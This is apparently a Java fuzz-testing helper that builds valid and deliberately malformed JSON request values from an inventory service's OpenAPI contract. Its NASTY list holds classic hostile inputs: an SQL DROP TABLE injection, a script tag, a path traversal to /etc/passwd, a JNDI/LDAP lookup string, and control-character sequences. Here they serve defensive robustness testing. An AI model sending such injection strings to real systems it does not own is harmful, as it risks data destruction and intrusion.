package me.snaq.inventory.fuzz;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.swagger.v3.oas.models.OpenAPI;
import io.swagger.v3.oas.models.media.Schema;
import java.time.LocalDate;
import java.time.ZoneId;
import java.util.List;
import java.util.Map;
import java.util.SplittableRandom;

/**
 * Values drawn from the contract's schemas, valid or deliberately not: within the bounds (and at
 * them) when valid, and otherwise a wrong type, a missing or extra field, a null inside an array, a
 * very long, unicode or injection string. Known field names draw from real objects, so valid
 * requests reach past the lookups.
 */
final class SchemaValues {
  static final List<String> NASTY =
      List.of(
          "",
          " ",
          "x".repeat(10_000),
          "🍫🥜 チョコ ナッツ",
          "\u202Eevil\u200B",
          "'; DROP TABLE inventory_lot; --",
          "<script>alert(1)</script>",
          "../../../etc/passwd",
          "%00%0d%0a",
          "\u0000nul",
          "${jndi:ldap://x/a}",
          "1e309",
          "-1",
          "9223372036854775808");

  private static final JsonNodeFactory NODES = JsonNodeFactory.instance;
  private final OpenAPI contract;
  private final SplittableRandom random;
  private final Map<String, List<String>> known;

  /**
   * @param known real values by field or parameter name (sku, brand, lotId, ...), to draw from
   */
  SchemaValues(OpenAPI contract, SplittableRandom random, Map<String, List<String>> known) {
    this.contract = contract;
    this.random = random;
    this.known = known;
  }

  /** A value of the schema: valid, or (when {@code valid} is false) broken somewhere. */
  JsonNode value(String name, Schema<?> schema, boolean valid, int depth) {
    Schema<?> resolved = resolve(schema);
    if (!valid && random.nextInt(3) == 0) {
      return broken(resolved);
    }
    if (resolved == null || depth > 6) {
      return NODES.textNode("x");
    }
    List<String> real = name == null ? null : known.get(name);
    if (real != null && !real.isEmpty() && random.nextInt(4) != 0) {
      String pick = real.get(random.nextInt(real.size()));
      if (!typeOf(resolved).equals("integer")) {
        return NODES.textNode(pick);
      }
      if (pick.chars().allMatch(Character::isDigit)) {
        return NODES.numberNode(Long.parseLong(pick));
      }
    }
    if (resolved.getEnum() != null && !resolved.getEnum().isEmpty()) {
      return NODES.pojoNode(resolved.getEnum().get(random.nextInt(resolved.getEnum().size())));
    }
    return switch (typeOf(resolved)) {
      case "object" -> object(resolved, valid, depth);
      case "array" -> array(name, resolved, valid, depth);
      case "integer" -> NODES.numberNode(integer(resolved));
      case "number" -> NODES.numberNode(random.nextDouble() * 100);
      case "boolean" -> NODES.booleanNode(random.nextBoolean());
      default -> NODES.textNode(string(resolved));
    };
  }

  private JsonNode object(Schema<?> schema, boolean valid, int depth) {
    ObjectNode node = NODES.objectNode();
    Map<String, Schema> properties = schema.getProperties();
    List<String> required = schema.getRequired() == null ? List.of() : schema.getRequired();
    if (properties != null) {
      String dropped =
          !valid && !required.isEmpty() && random.nextInt(3) == 0
              ? required.get(random.nextInt(required.size()))
              : null;
      for (Map.Entry<String, Schema> property : properties.entrySet()) {
        String field = property.getKey();
        boolean include = required.contains(field) || random.nextInt(3) != 0;
        if (include && !field.equals(dropped)) {
          node.set(
              field, value(field, property.getValue(), valid || random.nextInt(4) != 0, depth + 1));
        }
      }
    } else if (schema.getAdditionalProperties() instanceof Schema<?> values) {
      for (int i = random.nextInt(3); i > 0; i--) {
        String key = known.getOrDefault("sku", List.of("SKU-1")).get(0);
        node.set(key + (i > 1 ? i : ""), value(null, values, valid, depth + 1));
      }
    }
    if (!valid && random.nextInt(4) == 0) {
      node.put("unexpectedField", "extra");
    }
    return node;
  }

  private JsonNode array(String name, Schema<?> schema, boolean valid, int depth) {
    ArrayNode node = NODES.arrayNode();
    int min = schema.getMinItems() == null ? 0 : schema.getMinItems();
    int max = schema.getMaxItems() == null ? 3 : Math.min(schema.getMaxItems(), 3);
    int count = Math.max(min, Math.min(max, min + random.nextInt(3)));
    for (int i = 0; i < count; i++) {
      node.add(value(singular(name), schema.getItems(), valid, depth + 1));
    }
    if (!valid && random.nextInt(3) == 0) {
      node.addNull();
    }
    return node;
  }

  private JsonNode broken(Schema<?> schema) {
    return switch (random.nextInt(6)) {
      case 0 -> NODES.nullNode();
      case 1 -> NODES.textNode(NASTY.get(random.nextInt(NASTY.size())));
      case 2 -> NODES.numberNode(random.nextBoolean() ? Long.MAX_VALUE : -1L);
      case 3 -> NODES.booleanNode(true);
      case 4 -> NODES.arrayNode().addNull();
      default -> typeOf(schema).equals("string") ? NODES.numberNode(42) : NODES.textNode("not-it");
    };
  }

  /** A query or path parameter's text: valid, at a bound, or broken. */
  String text(String name, Schema<?> schema, boolean valid) {
    if (!valid) {
      return random.nextBoolean() ? NASTY.get(random.nextInt(NASTY.size())) : "wrong-" + name;
    }
    JsonNode value = value(name, schema, true, 0);
    return value.isTextual() ? value.asText() : value.toString().replace("\"", "");
  }

  private long integer(Schema<?> schema) {
    long min = schema.getMinimum() == null ? 0 : schema.getMinimum().longValue();
    long max =
        schema.getMaximum() == null
            ? Math.max(min + 1_000, 1_000)
            : schema.getMaximum().longValue();
    return switch (random.nextInt(4)) {
      case 0 -> min;
      case 1 -> max;
      default -> min + (long) (random.nextDouble() * (max - min));
    };
  }

  private String string(Schema<?> schema) {
    if ("date".equals(schema.getFormat())) {
      return LocalDate.now(ZoneId.of("Asia/Tokyo")).plusDays(1 + random.nextInt(120)).toString();
    }
    if ("date-time".equals(schema.getFormat())) {
      return "2030-01-0" + (1 + random.nextInt(9)) + "T00:00:00Z";
    }
    int min = schema.getMinLength() == null ? 1 : Math.max(1, schema.getMinLength());
    int max = schema.getMaxLength() == null ? 12 : Math.min(schema.getMaxLength(), 24);
    int length = Math.max(min, Math.min(max, min + random.nextInt(8)));
    StringBuilder text = new StringBuilder();
    for (int i = 0; i < length; i++) {
      text.append((char) ('a' + random.nextInt(26)));
    }
    return text.toString();
  }

  Schema<?> resolve(Schema<?> schema) {
    Schema<?> current = schema;
    for (int i = 0; current != null && current.get$ref() != null && i < 10; i++) {
      String name = current.get$ref().substring(current.get$ref().lastIndexOf('/') + 1);
      current = contract.getComponents().getSchemas().get(name);
    }
    if (current != null && current.getAllOf() != null && !current.getAllOf().isEmpty()) {
      return resolve(current.getAllOf().get(0));
    }
    return current;
  }

  static String typeOf(Schema<?> schema) {
    if (schema == null) {
      return "string";
    }
    if (schema.getType() != null) {
      return schema.getType();
    }
    if (schema.getTypes() != null && !schema.getTypes().isEmpty()) {
      return schema.getTypes().iterator().next();
    }
    return schema.getProperties() != null ? "object" : "string";
  }

  private static String singular(String name) {
    if (name == null) {
      return null;
    }
    return switch (name) {
      case "lots" -> "lot";
      case "lines" -> "line";
      case "brands" -> "brand";
      case "ngSkus", "requests", "skus" -> "sku";
      default -> name;
    };
  }

  static String json(JsonNode node) {
    try {
      return new ObjectMapper().writeValueAsString(node);
    } catch (com.fasterxml.jackson.core.JsonProcessingException e) {
      throw new IllegalStateException(e);
    }
  }
}
